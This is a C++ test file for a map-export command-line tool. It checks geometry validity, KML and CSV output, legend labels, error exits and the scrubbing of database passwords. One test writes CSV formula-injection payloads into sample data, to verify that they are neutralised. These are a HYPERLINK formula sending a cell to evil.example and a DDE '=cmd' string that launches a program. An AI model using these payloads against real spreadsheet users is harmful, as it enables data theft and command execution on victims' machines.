@@ -1,0 +1,260 @@
+// Outputs that never lose or expose data and open right where users open them (issue: atomic writes,
+// checked writes, formats). Each TEST_CASE is one kind of fault; the kinds that need root, strace or
+// a full file system are the shell tests in tests/outputs/.
+#include <catch2/catch.hpp>
+
+#include <gdal_priv.h>
+#include <ogrsf_frmts.h>
+#include <sys/wait.h>
+
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <set>
+
+#include "analysis/classify.hpp"
+#include "error.hpp"
+#include "geo/projection.hpp"
+#include "io/csv.hpp"
+#include "io/gdal_env.hpp"
+#include "io/pg_connection.hpp"
+#include "io/user_data.hpp"
+#include "scene/figure.hpp"
+#include "support.hpp"
+
+using namespace atlas;
+using atlas::test::run_cli;
+using atlas::test::TempFolder;
+using Catch::Matchers::Contains;
+namespace fs = std::filesystem;
+
+namespace {
+
+struct Validity {
+    int features = 0, valid = 0, empty = 0;
+};
+
+/// Every feature of a layer read back by GDAL and judged by GEOS (OGR's IsValid).
+Validity validity(const std::string& path, const std::string& layer_name) {
+    ensure_gdal_registered();
+    GDALDatasetUniquePtr ds(GDALDataset::Open(path.c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY));
+    REQUIRE(ds);
+    OGRLayer* layer = layer_name.empty() ? ds->GetLayer(0) : ds->GetLayerByName(layer_name.c_str());
+    REQUIRE(layer != nullptr);
+    Validity v;
+    for (auto& f : *layer) {
+        ++v.features;
+        const OGRGeometry* g = f->GetGeometryRef();
+        if (g == nullptr || g->IsEmpty()) ++v.empty;
+        else if (g->IsValid()) ++v.valid;
+    }
+    return v;
+}
+
+/// Runs clusteratlas with its stdout redirected by the shell (`redirect`, e.g. "> /dev/full").
+std::pair<int, std::string> run_redirected(const std::string& args, const std::string& redirect) {
+    TempFolder tmp;
+    std::string command = std::string(ATLAS_CLI) + " " + args + " " + redirect + " 2>" + tmp.path("err");
+    int status = std::system(command.c_str());
+    return {WIFEXITED(status) ? WEXITSTATUS(status) : -1, test::read_text(tmp.path("err"))};
+}
+
+}  // namespace
+
+TEST_CASE("simplify: every polygon stays valid, in every layer", "[outputs]") {
+    TempFolder tmp;
+    auto p = run_cli("export --layer provinces --simplify 2000 -o " + tmp.path("provinces.fgb"));
+    REQUIRE(p.exit_code == 0);
+    Validity provinces = validity(tmp.path("provinces.fgb"), "");
+    CHECK(provinces.features == 34);
+    CHECK(provinces.valid == 34);
+    auto coarse = run_cli("export --layer provinces --simplify 20000 -o " + tmp.path("p20k.gpkg"));
+    REQUIRE(coarse.exit_code == 0);
+    CHECK(validity(tmp.path("p20k.gpkg"), "provinces").valid == 34);
+    auto all = run_cli("export --layer all --simplify 2000 -o " + tmp.path("all.gpkg"));
+    REQUIRE(all.exit_code == 0);
+    for (const auto& [layer, count] : {std::pair<const char*, int>{"prefectures", 367}, {"regions", 19}, {"coverage", 34}}) {
+        INFO(layer);
+        Validity v = validity(tmp.path("all.gpkg"), layer);
+        CHECK(v.features == count);
+        CHECK(v.valid == count);
+    }
+}
+
+TEST_CASE("precision: every polygon stays valid (GEOS snap-rounding where rounding broke one) and says how many",
+          "[outputs]") {
+    TempFolder tmp;
+    auto r = run_cli("export --layer prefectures --precision 3 -o " + tmp.path("p3.geojson"));
+    REQUIRE(r.exit_code == 0);
+    CHECK_THAT(r.err, Contains("of 367 prefectures snap-rounded by GEOS to stay valid"));
+    Validity v = validity(tmp.path("p3.geojson"), "");
+    CHECK(v.features == 367);
+    CHECK(v.valid == 367);
+    auto one = run_cli("export --layer provinces --precision 1 -o " + tmp.path("p1.geojson"));
+    REQUIRE(one.exit_code == 0);
+    CHECK(validity(tmp.path("p1.geojson"), "").valid == 34);
+}
+
+TEST_CASE("options that would leave features without area, and negative or NaN tolerances, are refused", "[outputs]") {
+    TempFolder tmp;
+    auto zero = run_cli("export --layer prefectures --precision 0 -o " + tmp.path("p0.geojson"));
+    CHECK(zero.exit_code == 2);
+    CHECK_THAT(zero.err, Contains("--precision 0 leaves"));
+    CHECK_THAT(zero.err, Contains("of 367 prefectures without any area ("));
+    CHECK_FALSE(fs::exists(tmp.path("p0.geojson")));
+    auto huge = run_cli("export --layer provinces --simplify 1e9 -o " + tmp.path("s.geojson"));
+    CHECK(huge.exit_code == 2);
+    CHECK_THAT(huge.err, Contains("--simplify 1e+09 leaves"));
+    for (const char* value : {"-100", "nan"}) {
+        auto r = run_cli(std::string("export --layer provinces --simplify=") + value + " -o " + tmp.path("n.geojson"));
+        CHECK(r.exit_code == 2);
+        CHECK_THAT(r.err, Contains("--simplify must be a distance in metres, 0 or more"));
+    }
+}
+
+TEST_CASE("KML placemarks carry the unit's name and a description, and read back by GDAL", "[outputs]") {
+    TempFolder tmp;
+    REQUIRE(run_cli("export --layer hubs -o " + tmp.path("hubs.kml")).exit_code == 0);
+    REQUIRE(run_cli("export --layer regions --region 长三角 -o " + tmp.path("yrd.kml")).exit_code == 0);
+    std::string hubs = test::read_text(tmp.path("hubs.kml"));
+    CHECK_THAT(hubs, Contains("<name>Shanghai 上海</name>"));
+    std::size_t placemarks = 0, names = 0;
+    for (std::size_t i = 0; (i = hubs.find("<Placemark>", i)) != std::string::npos; ++i) {
+        ++placemarks;
+        names += hubs.compare(hubs.find('<', i + 11), 6, "<name>") == 0;
+    }
+    CHECK(placemarks == 16);
+    CHECK(names == 16);
+    std::string yrd = test::read_text(tmp.path("yrd.kml"));
+    CHECK_THAT(yrd, Contains("<name>Yangtze River Delta"));
+    CHECK_THAT(yrd, Contains("<description>"));
+    ensure_gdal_registered();
+    GDALDatasetUniquePtr ds(GDALDataset::Open(tmp.path("hubs.kml").c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY));
+    REQUIRE(ds);
+    CHECK(ds->GetLayer(0)->GetFeatureCount() == 16);
+}
+
+TEST_CASE("CSV exports open in Excel: a UTF-8 BOM unless --no-bom, and read back by GDAL", "[outputs]") {
+    TempFolder tmp;
+    REQUIRE(run_cli("export --layer hubs -o " + tmp.path("hubs.csv")).exit_code == 0);
+    std::string csv = test::read_text(tmp.path("hubs.csv"));
+    CHECK(csv.rfind("\xEF\xBB\xBF", 0) == 0);
+    CHECK_THAT(csv, Contains("上海"));
+    ensure_gdal_registered();
+    GDALDatasetUniquePtr ds(GDALDataset::Open(tmp.path("hubs.csv").c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY));
+    REQUIRE(ds);
+    CHECK(ds->GetLayer(0)->GetFeatureCount() == 16);
+    REQUIRE(run_cli("export --layer hubs --no-bom -o " + tmp.path("plain.csv")).exit_code == 0);
+    CHECK(test::read_text(tmp.path("plain.csv")).rfind("WKT,", 0) == 0);
+}
+
+TEST_CASE("text that a spreadsheet would run as a formula is neutralised in every CSV output", "[outputs]") {
+    CHECK(neutralise_formula("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")");
+    CHECK(neutralise_formula("@SUM(A1)") == "'@SUM(A1)");
+    CHECK(neutralise_formula("-1.5") == "-1.5");  // numbers stay numbers
+    CHECK(neutralise_formula("+86") == "+86");
+    CHECK(neutralise_formula("Beijing") == "Beijing");
+    TempFolder tmp;
+    fs::copy_file(std::string(ATLAS_GEODATA) + "/china.gpkg", tmp.path("atlas.gpkg"));
+    {
+        ensure_gdal_registered();
+        GDALDatasetUniquePtr ds(GDALDataset::Open(tmp.path("atlas.gpkg").c_str(), GDAL_OF_VECTOR | GDAL_OF_UPDATE));
+        REQUIRE(ds);
+        ds->ExecuteSQL("UPDATE provinces SET name_en = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Beijing\")', "
+                       "name_zh = '=cmd|'' /C calc''!A0' WHERE code = '110000'", nullptr, nullptr);
+    }
+    std::string gpkg = "--geodata " + tmp.path("atlas.gpkg") + " ";
+    REQUIRE(run_cli(gpkg + "export --layer provinces -o " + tmp.path("out.csv")).exit_code == 0);
+    auto list = run_cli(gpkg + "list provinces --format csv");
+    auto coverage = run_cli(gpkg + "coverage --by province --format csv");
+    for (const std::string& text : {test::read_text(tmp.path("out.csv")), list.out, coverage.out}) {
+        CHECK_THAT(text, Contains("'=cmd|"));
+        CHECK_THAT(text, Contains("'=HYPERLINK("));
+    }
+    auto raw = run_cli(gpkg + "list provinces --format csv --keep-formulas");
+    CHECK_THAT(raw.out, Contains(",=cmd|"));
+}
+
+TEST_CASE("legend class labels have the digits that tell their breaks apart", "[outputs]") {
+    CHECK(format_breaks({104.21, 104.63, 105.1, 105.62, 106.2, 106.9}) ==
+          std::vector<std::string>{"104.2", "104.6", "105.1", "105.6", "106.2", "106.9"});
+    CHECK(format_breaks({45.01, 45.02, 45.03}) == std::vector<std::string>{"45.01", "45.02", "45.03"});
+    CHECK(format_breaks({1200000, 1230000}) == std::vector<std::string>{"1.2M", "1.23M"});
+    CHECK(format_breaks({1, 5, 12}) == std::vector<std::string>{"1", "5", "12"});
+    Document& doc = test::bundled_document();
+    UserTable t = read_user_table(std::string(ATLAS_TEST_DATA) + "/cases/sex_ratio.csv", doc.provinces(), doc.prefectures());
+    Session s;
+    s.choropleth = ChoroplethKind::UserData;
+    s.data.path = t.path;
+    Figure f = compose_figure(doc, s, &t);
+    std::set<std::string> labels;
+    for (const LegendEntry& e : f.legend.entries) {
+        CHECK(labels.insert(e.label).second);
+        std::size_t dash = e.label.find(" - ");
+        if (dash != std::string::npos) CHECK(e.label.substr(0, dash) != e.label.substr(dash + 3));
+    }
+    CHECK(labels.size() >= 6);
+}
+
+TEST_CASE("a write to a full or closed stdout is exit 4 with a message", "[outputs]") {
+    for (const char* args : {"export --layer prefectures -o -", "list prefectures --format csv", "coverage --by province --format csv"}) {
+        INFO(args);
+        auto [code, err] = run_redirected(args, "> /dev/full");
+        CHECK(code == 4);
+        CHECK_THAT(err, Contains("stdout: cannot write (No space left on device)"));
+    }
+    auto [closed, err] = run_redirected("export --layer hubs -o -", ">&-");
+    CHECK(closed == 4);
+    CHECK_THAT(err, Contains("stdout: cannot write (Bad file descriptor)"));
+}
+
+TEST_CASE("projections under which China cannot be shown are refused, and CRSs for elsewhere warned about", "[outputs]") {
+    CHECK_THROWS_WITH(Projection("+proj=ortho +lat_0=-60 +lon_0=-60 +type=crs"), Contains("cannot show China: 0 of 121"));
+    CHECK_THROWS_WITH(Projection("EPSG:4978"), Contains("is a geocentric (X, Y, Z) CRS, not a map projection"));
+    CHECK_THAT(Projection("EPSG:32719").caveat(), Contains("is meant for lon -72..-66, lat -80..0, not China"));
+    CHECK(Projection("albers").caveat().empty());
+    TempFolder tmp;
+    auto r = run_cli("--projection '+proj=ortho +lat_0=-60 +lon_0=-60 +type=crs' render --size 64x48 -o " + tmp.path("o.png"));
+    CHECK(r.exit_code == 2);
+    CHECK_FALSE(fs::exists(tmp.path("o.png")));
+    auto utm = run_cli("--projection EPSG:32719 render --size 64x48 -o " + tmp.path("u.png"));
+    CHECK(utm.exit_code == 0);
+    CHECK_THAT(utm.err, Contains("warning: projection 'EPSG:32719' is meant for"));
+}
+
+TEST_CASE("PostgreSQL connection strings are parsed by libpq and the password never appears", "[outputs]") {
+    CHECK(is_pg_connection("PG:host=x"));
+    CHECK(is_pg_connection("  pg:host=x"));
+    CHECK(is_pg_connection("postgresql://u:p@h/db"));
+    CHECK_FALSE(is_pg_connection("pg.gpkg"));
+    PgConnection c = parse_pg_connection("pg:host=db port=5433 dbname=gis user=me password='correct horse' active_schema=atlas",
+                                         ErrorKind::Input);
+    CHECK(c.describe() == "PostGIS host db, port 5433, database gis");
+    CHECK(c.schema() == "atlas");
+    CHECK_THAT(c.gdal_source(), Contains("connect_timeout=10"));
+    CHECK_THAT(c.gdal_source(), Contains("active_schema='atlas'"));
+    CHECK(c.scrub("password authentication failed: correct horse") == "password authentication failed: ***");
+    PgConnection uri = parse_pg_connection("postgresql://atlas:TopSecret99@127.0.0.1:1/atlas", ErrorKind::Input);
+    CHECK(uri.describe() == "PostGIS host 127.0.0.1, port 1, database atlas");
+    for (const char* s : {"PG:host=127.0.0.1 port=1 dbname=atlas user=atlas password=correct horse",
+                          "PG:host=127.0.0.1 port=1 dbname=atlas user=atlas password=\"correct horse\""}) {
+        INFO(s);
+        try {
+            parse_pg_connection(s, ErrorKind::Input);
+            FAIL("parsed");
+        } catch (const AtlasError& e) {
+            CHECK(e.message().find("horse") == std::string::npos);
+            CHECK_THAT(e.message(), Contains("quote a value with spaces in single quotes"));
+        }
+    }
+    TempFolder tmp;
+    auto geodata = run_cli("--geodata 'pg:host=127.0.0.1 port=1 dbname=atlas user=atlas password=TopSecret99' list provinces");
+    CHECK(geodata.exit_code == 3);
+    CHECK(geodata.err.find("TopSecret99") == std::string::npos);
+    CHECK_THAT(geodata.err, Contains("PostGIS host 127.0.0.1, port 1, database atlas: cannot connect"));
+    auto out = run_cli("export --layer hubs -o 'pg:host=127.0.0.1 port=1 dbname=atlas user=atlas password=TopSecret99'");
+    CHECK(out.exit_code == 4);
+    CHECK(out.err.find("TopSecret99") == std::string::npos);
+    for (const auto& entry : fs::directory_iterator(fs::current_path()))
+        CHECK(entry.path().filename().string().find("TopSecret99") == std::string::npos);
+}
